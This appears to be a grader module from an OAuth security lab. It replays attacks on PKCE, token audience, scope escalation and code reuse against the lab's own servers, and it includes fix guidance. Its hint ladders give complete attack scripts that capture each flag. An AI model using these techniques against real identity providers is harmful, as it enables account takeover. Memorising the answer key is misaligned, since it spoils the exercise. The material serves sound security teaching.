"""Lesson 08's battery: the attacks and legitimate checks the grader replays.

Each row plays its parties over real HTTP with the grader's client (so every status it sees
is judged): alice's browser at the authorization server (log in, consent), the client that
redeems the code, the photos API. The attacks here need no victim browser: an intercepted
code redeemed without PKCE, a token not meant for the photos API, a scope the client was
not registered for or the user did not consent to, a code redeemed twice. The attacks that
need the victim and the client app (redirect_uri, open redirect, state, implicit, nonce)
come with ``lab.victim``.
"""

from __future__ import annotations

import base64
import hashlib
import re
import secrets
import time
import uuid
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import jwt

from labapp.engine.grading import Attack, Check, Observed
from labapp.lessons.l08_oauth.people import RESOURCE_SERVER, SERVICE, SPA

# -- the parties, played over HTTP -------------------------------------------------------------


def _unescape(text: str) -> str:
    return text.replace("&amp;", "&").replace("&quot;", '"')


def _password(lab: Any, user: str) -> str:
    return next(u["password"] for u in lab.users if u["username"] == user)


def _field(name: str, text: str) -> str | None:
    found = re.search(rf'name={name} value="([^"]*)"', text)
    return _unescape(found[1]) if found else None


def consent(
    lab: Any, http: httpx.Client, query: dict[str, str], keep: set[str] | None = None
) -> httpx.Response:
    """alice's browser at /authorize: log in, tick ``keep`` (None: every box), allow.

    Returns the authorization server's last answer (a redirect to the client, or the page
    or error that stopped the flow). ``http`` keeps the session cookie, as a browser does.
    """
    page = http.get("/authorize", params=query)
    if page.status_code != 200 or "name=next" not in page.text:
        return page
    login = http.post(
        "/login",
        data={
            "username": "alice",
            "password": _password(lab, "alice"),
            "next": _field("next", page.text) or "",
        },
    )
    if login.status_code != 303:
        return login
    form = http.get(login.headers["location"])
    csrf, action = (
        _field("csrf", form.text),
        re.search(r'form method=post action="([^"]+)"', form.text),
    )
    if form.status_code != 200 or csrf is None or action is None:
        return form
    offered = re.findall(r'name=consented_scope value="([^"]+)"', form.text)
    ticked = [s for s in offered if keep is None or s in keep]
    return http.post(
        _unescape(action[1]),
        data={"csrf": csrf, "decision": "allow", "consented_scope": ticked},
    )


def callback_params(answer: httpx.Response) -> dict[str, str]:
    """The query of the redirect back to the client ({} when the flow did not get there)."""
    if answer.status_code not in (302, 303) or "location" not in answer.headers:
        return {}
    return {k: v[0] for k, v in parse_qs(urlsplit(answer.headers["location"]).query).items()}


def s256(verifier: str) -> str:
    digest = hashlib.sha256(verifier.encode()).digest()
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def spa_request(lab: Any, scope: str, **extra: str) -> dict[str, str]:
    """The public client's authorization request (state and nonce fresh), plus ``extra``."""
    return {
        "response_type": "code",
        "client_id": SPA,
        "redirect_uri": lab.net.clients[SPA]["redirect_uris"][0],
        "scope": scope,
        "state": secrets.token_urlsafe(12),
        "nonce": secrets.token_urlsafe(12),
        **extra,
    }


def redeem(lab: Any, http: httpx.Client, code: str, verifier: str | None) -> httpx.Response:
    """The public client's token request for ``code`` (no verifier when None)."""
    data = {
        "grant_type": "authorization_code",
        "code": code,
        "client_id": SPA,
        "redirect_uri": lab.net.clients[SPA]["redirect_uris"][0],
    }
    if verifier is not None:
        data["code_verifier"] = verifier
    return http.post("/token", data=data)


def spa_login(
    lab: Any,
    http: httpx.Client,
    scope: str = "openid profile photos:read",
    keep: set[str] | None = None,
) -> tuple[httpx.Response, str]:
    """A full code + PKCE S256 login of the public client: (the token answer, what it says)."""
    verifier = secrets.token_urlsafe(48)
    query = spa_request(lab, scope, code_challenge=s256(verifier), code_challenge_method="S256")
    answer = consent(lab, http, query, keep)
    params = callback_params(answer)
    if "code" not in params:
        why = params.get("error_description") or params.get("error") or answer.text[:120]
        return answer, f"no code at the callback (HTTP {answer.status_code}: {why})"
    if params.get("state") != query["state"]:
        return answer, "the callback's state is not the one sent"
    tokens = redeem(lab, http, params["code"], verifier)
    return tokens, f"token request: HTTP {tokens.status_code}"


def photos(lab: Any, http: httpx.Client, token: str, method: str = "GET") -> httpx.Response:
    url = lab.net.api_url + "/photos"
    return http.request(method, url, headers={"Authorization": f"Bearer {token}"})


def introspect(lab: Any, http: httpx.Client, token: str) -> bool:
    """Is ``token`` still active, asked as the photos API (RFC 7662)?"""
    rs = lab.net.clients[RESOURCE_SERVER]
    answer = http.post(
        "/introspect", auth=(rs["client_id"], rs["client_secret"]), data={"token": token}
    )
    return answer.status_code == 200 and answer.json().get("active") is True


def granted(answer: httpx.Response) -> set[str] | None:
    """The scopes a token answer granted (None: no token)."""
    if answer.status_code != 200:
        return None
    body = answer.json()
    if "access_token" not in body:
        return None
    scope = body.get("scope")
    if scope is None:  # RFC 6749 §5.1: omitted means as requested; the token itself says
        scope = jwt.decode(body["access_token"], options={"verify_signature": False}).get("scope")
    return set(str(scope or "").split())


def _mint(lab: Any, claims: dict[str, Any], typ: str) -> str:
    """A token signed with the issuer's own key: what the same authorization server issues
    for another API, or to another client."""
    key = lab.net.auth.key
    pem = key.as_pem(private=True)
    return jwt.encode(claims, pem, "RS256", headers={"kid": key.kid, "typ": typ})


# -- the attacks -------------------------------------------------------------------------------


def run_pkce_missing(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.1.1, §4.5: a public client's code, intercepted on its way back (a custom
    scheme, a log, a Referer), is redeemed by whoever holds it when nothing binds it to the
    flow that asked for it. Without PKCE the code alone is enough; with ``plain`` the
    verifier is the challenge, which travelled in the authorization URL."""
    seen = []
    visible = secrets.token_urlsafe(48)
    variants = (
        ("no code_challenge", {}, None),
        ("plain", {"code_challenge": visible, "code_challenge_method": "plain"}, visible),
    )
    for label, extra, verifier in variants:
        http.cookies.clear()
        answer = consent(lab, http, spa_request(lab, "openid photos:read", **extra))
        params = callback_params(answer)
        if "code" not in params:
            why = params.get("error_description") or params.get("error") or answer.status_code
            seen.append(f"{label}: no code issued ({why})")
            continue
        tokens = redeem(lab, http, params["code"], verifier)  # the interceptor's request
        if granted(tokens) is not None:
            how = "without a verifier" if verifier is None else "with the challenge as verifier"
            return Observed(True, 200, f"{label}: the intercepted code was redeemed {how}")
        seen.append(f"{label}: redemption refused (HTTP {tokens.status_code})")
    return Observed(False, 400, "; ".join(seen))


def run_token_audience(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9068 §4, RFC 9700 §2.3: the photos API must take only access tokens minted for it
    (typ at+jwt, aud photos-api). An ID token is for the client; a token for another API is
    for that API."""
    tokens, detail = spa_login(lab, http)
    if granted(tokens) is None:
        raise RuntimeError(f"the legitimate login the attack starts from failed: {detail}")
    body = tokens.json()
    issuer, now = lab.net.issuer, int(time.time())
    access = jwt.decode(body["access_token"], options={"verify_signature": False})
    base = {"iss": issuer, "sub": "alice", "iat": now, "exp": now + 300}
    candidates = [
        ("the login's ID token", body.get("id_token")),
        (
            "an access token of the same issuer for another API (aud billing-api)",
            _mint(
                lab,
                {**access, "aud": "billing-api", "jti": uuid.uuid4().hex, "iat": now},
                "at+jwt",
            ),
        ),
        (
            "an ID token whose aud lists the photos API beside the client (typ JWT)",
            _mint(
                lab,
                {
                    **base,
                    "aud": [SPA, lab.net.audience],
                    "azp": SPA,
                    "client_id": SPA,
                    "jti": uuid.uuid4().hex,
                    "scope": "openid profile photos:read",
                    "auth_time": now,
                    "nonce": secrets.token_urlsafe(8),
                },
                "JWT",
            ),
        ),
    ]
    refused = []
    for label, token in candidates:
        if not token:
            continue
        answer = photos(lab, http, token)
        if answer.status_code == 200:
            return Observed(True, 200, f"GET /photos took {label}")
        refused.append(f"{label}: {answer.status_code}")
    return Observed(False, 401, "refused " + "; ".join(refused))


def run_scope_escalation(lab: Any, http: httpx.Client) -> Observed:
    """RFC 9700 §2.3 (least privilege), RFC 6749 §3.3: a client gets at most what it was
    registered for, what it asked for and what the user consented to."""
    service = lab.net.clients[SERVICE]
    answer = http.post(
        "/token",
        auth=(service["client_id"], service["client_secret"]),
        data={"grant_type": "client_credentials", "scope": "photos:read photos:write"},
    )
    scopes = granted(answer)
    if scopes is not None and "photos:write" in scopes:
        return Observed(
            True, 200, f"{SERVICE} (registered for photos:read) was granted photos:write"
        )
    seen = [f"unregistered photos:write: HTTP {answer.status_code}, granted {sorted(scopes or [])}"]
    http.cookies.clear()
    asked = "openid profile photos:read photos:write"
    tokens, detail = spa_login(lab, http, asked, keep={"openid", "profile", "photos:read"})
    scopes = granted(tokens)
    if scopes is not None and "photos:write" in scopes:
        return Observed(True, 200, "alice unticked photos:write, and the token has it anyway")
    seen.append(f"unconsented photos:write: {detail}, granted {sorted(scopes or [])}")
    return Observed(False, 400, "; ".join(seen))


def run_code_reuse(lab: Any, http: httpx.Client) -> Observed:
    """RFC 6749 §4.1.2: a code is used once; a second use must fail and should revoke the
    tokens the first one issued (whoever replays it may be the thief, or the client)."""
    verifier = secrets.token_urlsafe(48)
    query = spa_request(
        lab, "openid photos:read", code_challenge=s256(verifier), code_challenge_method="S256"
    )
    params = callback_params(consent(lab, http, query))
    if "code" not in params:
        raise RuntimeError(f"the legitimate login the attack starts from failed: {params}")
    first = redeem(lab, http, params["code"], verifier)
    if granted(first) is None:
        raise RuntimeError(f"the code's first redemption failed: HTTP {first.status_code}")
    second = redeem(lab, http, params["code"], verifier)
    if granted(second) is not None:
        return Observed(True, 200, "the code was redeemed a second time")
    if introspect(lab, http, first.json()["access_token"]):
        return Observed(
            True,
            second.status_code,
            "the second use was refused, but the first redemption's access token is still active",
        )
    return Observed(False, second.status_code, "second use refused and the first tokens revoked")


# -- the legitimate checks ---------------------------------------------------------------------


def check_login(lab: Any, http: httpx.Client) -> Observed:
    asked = {"openid", "profile", "photos:read"}
    tokens, detail = spa_login(lab, http, " ".join(sorted(asked)))
    scopes = granted(tokens)
    if scopes is None:
        return Observed(False, tokens.status_code, detail)
    if not asked <= scopes or "id_token" not in tokens.json():
        return Observed(
            False,
            200,
            f"granted {sorted(scopes)} (asked {sorted(asked)})",
            cause="denied too much: the user consented to all of it",
        )
    return Observed(True, 200, "code + PKCE S256 login: an access token and an ID token")


def check_consent(lab: Any, http: httpx.Client) -> Observed:
    tokens, detail = spa_login(
        lab, http, "openid profile photos:read", keep={"openid", "photos:read"}
    )
    scopes = granted(tokens)
    if scopes is None or not {"openid", "photos:read"} <= scopes:
        return Observed(False, tokens.status_code, f"{detail}; granted {sorted(scopes or [])}")
    return Observed(True, 200, f"alice unticked profile and logged in: granted {sorted(scopes)}")


def check_refresh(lab: Any, http: httpx.Client) -> Observed:
    tokens, detail = spa_login(lab, http)
    if granted(tokens) is None or "refresh_token" not in tokens.json():
        return Observed(False, tokens.status_code, f"{detail}, no refresh token")
    answer = http.post(
        "/token",
        data={
            "grant_type": "refresh_token",
            "refresh_token": tokens.json()["refresh_token"],
            "client_id": SPA,
        },
    )
    if granted(answer) is None:
        return Observed(False, answer.status_code, f"refresh: HTTP {answer.status_code}")
    api = photos(lab, http, answer.json()["access_token"])
    return Observed(api.status_code == 200, api.status_code, "refreshed token on GET /photos")


def check_client_credentials(lab: Any, http: httpx.Client) -> Observed:
    service = lab.net.clients[SERVICE]
    answer = http.post(
        "/token",
        auth=(service["client_id"], service["client_secret"]),
        data={"grant_type": "client_credentials", "scope": "photos:read"},
    )
    scopes = granted(answer)
    if scopes is None or "photos:read" not in scopes:
        return Observed(False, answer.status_code, f"client credentials: granted {scopes}")
    api = photos(lab, http, answer.json()["access_token"])
    detail = f"{SERVICE}'s photos:read token on GET /photos: HTTP {api.status_code}"
    return Observed(api.status_code == 200, api.status_code, detail)


def check_api_scope(lab: Any, http: httpx.Client) -> Observed:
    tokens, detail = spa_login(lab, http, "openid photos:read photos:write")
    if granted(tokens) is None:
        return Observed(False, tokens.status_code, detail)
    token = tokens.json()["access_token"]
    read, write = photos(lab, http, token), photos(lab, http, token, "POST")
    ok = read.status_code == 200 and write.status_code == 200
    detail = f"GET /photos {read.status_code}, POST /photos {write.status_code}"
    return Observed(ok, write.status_code if read.status_code == 200 else read.status_code, detail)


# -- hint ladders: nudge, technique (with its reference), steps -----------------------------

_LOGIN = '''import re, secrets, httpx
from urllib.parse import parse_qs, urlsplit

def alice_authorizes(params):
    """alice's browser: log in, allow everything; returns the query sent to the client."""
    pw = next(u["password"] for u in lab.users if u["username"] == "alice")
    with httpx.Client(base_url=lab.url) as b:
        page = b.get("/authorize", params=params)
        nxt = re.search(r'name=next value="([^"]+)"', page.text)[1].replace("&amp;", "&")
        form = b.get(b.post("/login", data={"username": "alice", "password": pw,
                                            "next": nxt}).headers["location"])
        csrf = re.search(r'name=csrf value="([^"]+)"', form.text)[1]
        action = re.search(r'action="([^"]+)"', form.text)[1].replace("&amp;", "&")
        ticks = re.findall(r'name=consented_scope value="([^"]+)"', form.text)
        answer = b.post(action, data={"csrf": csrf, "decision": "allow",
                                      "consented_scope": ticks})
    return {k: v[0] for k, v in parse_qs(urlsplit(answer.headers["location"]).query).items()}

spa = lab.net.clients["photo-spa"]
'''

HINTS: dict[str, tuple[str, ...]] = {
    "pkce-missing": (
        "photo-spa is a public client: it has no secret. What else, at the token endpoint, "
        "proves that the one redeeming a code is the one who asked for it?",
        "Authorization code injection (RFC 9700 §4.5, §2.1.1; RFC 7636): start a flow for "
        "photo-spa without code_challenge (or with code_challenge_method=plain), let alice "
        "log in, then redeem the code from the callback as the interceptor: no "
        "code_verifier (or the challenge you saw in the URL).",
        "```python\n"
        + _LOGIN
        + """
query = alice_authorizes({"response_type": "code", "client_id": "photo-spa",
                          "redirect_uri": spa["redirect_uris"][0], "scope": "openid photos:read",
                          "state": secrets.token_urlsafe(8), "nonce": secrets.token_urlsafe(8)})
stolen = query["code"]  # what an interceptor on the redirect sees
answer = httpx.post(lab.url + "/token", data={"grant_type": "authorization_code", "code": stolen,
                    "client_id": "photo-spa", "redirect_uri": spa["redirect_uris"][0]})
print(answer.status_code, sorted(answer.json()))
flag_pkce = answer.json()["flag"]
lab.check_flag("pkce-missing", flag_pkce)
```""",
    ),
    "token-audience": (
        "A login hands photo-spa two JWTs signed by the same key. Which one is the photos "
        "API meant to take, and does it check?",
        "Token confusion (RFC 9068 §4, RFC 9700 §2.3): an access token for this API has "
        "typ at+jwt and aud photos-api; an ID token has typ JWT and aud = the client. Log "
        "in with code + PKCE and send the ID token to GET /photos as a bearer token.",
        "```python\n"
        + _LOGIN
        + """import base64, hashlib
verifier = secrets.token_urlsafe(48)
challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=")
query = alice_authorizes({"response_type": "code", "client_id": "photo-spa",
                          "redirect_uri": spa["redirect_uris"][0], "scope": "openid photos:read",
                          "state": secrets.token_urlsafe(8), "nonce": secrets.token_urlsafe(8),
                          "code_challenge": challenge.decode(), "code_challenge_method": "S256"})
tokens = httpx.post(lab.url + "/token", data={"grant_type": "authorization_code",
                    "code": query["code"], "client_id": "photo-spa",
                    "redirect_uri": spa["redirect_uris"][0], "code_verifier": verifier}).json()
answer = httpx.get(lab.net.api_url + "/photos",
                   headers={"Authorization": "Bearer " + tokens["id_token"]})
print(answer.status_code, answer.json()["owner"])
flag_audience = answer.json()["flag"]
lab.check_flag("token-audience", flag_audience)
```""",
    ),
    "scope-escalation": (
        "print-service is registered for photos:read only. What happens if it simply asks "
        "for more?",
        "Scope escalation (RFC 9700 §2.3, RFC 6749 §3.3): the granted scope must be "
        "registered ∩ requested ∩ consented. Ask the token endpoint for client credentials "
        "as print-service with scope 'photos:read photos:write' and read the granted scope.",
        """```python
import httpx
service = lab.net.clients["print-service"]
answer = httpx.post(lab.url + "/token", auth=(service["client_id"], service["client_secret"]),
                    data={"grant_type": "client_credentials", "scope": "photos:read photos:write"})
print(answer.status_code, answer.json().get("scope"))
flag_scope = answer.json()["flag"]
lab.check_flag("scope-escalation", flag_scope)
```""",
    ),
    "code-reuse": (
        "The client's token request timed out, so it sends the same code again. Should that "
        "work, and what becomes of the tokens of the first try?",
        "Code replay (RFC 6749 §4.1.2, RFC 9700 §4.5): a code is single use; a second use "
        "must fail and should revoke what the first issued. Do one code + PKCE login as "
        "photo-spa and post the same token request twice.",
        "```python\n"
        + _LOGIN
        + """import base64, hashlib
verifier = secrets.token_urlsafe(48)
challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=")
query = alice_authorizes({"response_type": "code", "client_id": "photo-spa",
                          "redirect_uri": spa["redirect_uris"][0], "scope": "openid photos:read",
                          "state": secrets.token_urlsafe(8), "nonce": secrets.token_urlsafe(8),
                          "code_challenge": challenge.decode(), "code_challenge_method": "S256"})
request = {"grant_type": "authorization_code", "code": query["code"], "client_id": "photo-spa",
           "redirect_uri": spa["redirect_uris"][0], "code_verifier": verifier}
first = httpx.post(lab.url + "/token", data=request)
again = httpx.post(lab.url + "/token", data=request)
print(first.status_code, again.status_code)
flag_reuse = again.json()["flag"]
lab.check_flag("code-reuse", flag_reuse)
```""",
    ),
}


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "pkce-missing",
        "photo-spa's code, issued without code_challenge (then with plain), redeemed by "
        "whoever intercepted it",
        HINTS["pkce-missing"],
        run_pkce_missing,
        fix="check_pkce let an authorization request through without S256 PKCE. Refuse a "
        "missing code_challenge (every client, RFC 9700 §2.1.1) and any method but S256: "
        "plain puts the verifier in the URL.",
    ),
    Attack(
        "token-audience",
        "GET /photos with alice's ID token, an access token for another API, and an ID "
        "token whose aud also lists photos-api",
        HINTS["token-audience"],
        run_token_audience,
        fix="validate_access_token took a token that is not an access token for this API. "
        "Require typ at+jwt (jwt.get_unverified_header), audience=lab.net.audience and "
        "issuer=lab.net.issuer in jwt.decode, algorithms=['RS256'] (RFC 9068 §4).",
    ),
    Attack(
        "scope-escalation",
        "print-service asks for photos:write it is not registered for; photo-spa gets "
        "photos:write after alice unticked it",
        HINTS["scope-escalation"],
        run_scope_escalation,
        fix="allowed_scope granted more than registered ∩ requested ∩ consented. Keep the "
        "requested scopes that are registered and, once consented is not None, consented "
        "too (RFC 9700 §2.3).",
    ),
    Attack(
        "code-reuse",
        "one code + PKCE login's code redeemed twice; are the first tokens still active?",
        HINTS["code-reuse"],
        run_code_reuse,
        fix="code_single_use let an already used code be redeemed again. Return False when "
        "already_used (RFC 6749 §4.1.2); the server then revokes the first tokens.",
    ),
)

CHECKS: tuple[Check, ...] = (
    Check(
        "login",
        "photo-spa: code + PKCE S256 login, an access token and an ID token",
        check_login,
        hint="alice's ordinary login must still work: S256 PKCE, the exact redirect_uri, "
        "response_type code, and the registered scopes she consents to.",
    ),
    Check(
        "consent",
        "alice unticks profile: she still logs in with what she allowed",
        check_consent,
        hint="allowed_scope must keep what is registered, requested and consented: a user "
        "who unticks one box still logs in with the others.",
    ),
    Check("refresh", "photo-spa refreshes its token and calls the API", check_refresh),
    Check(
        "client-credentials",
        "print-service gets a photos:read token and calls GET /photos",
        check_client_credentials,
    ),
    Check(
        "api-scope",
        "a photos:read photos:write access token on GET and POST /photos",
        check_api_scope,
        hint="validate_access_token must accept a genuine access token for this API whose "
        "scope holds the route's (and whose aud may be a list).",
    ),
)
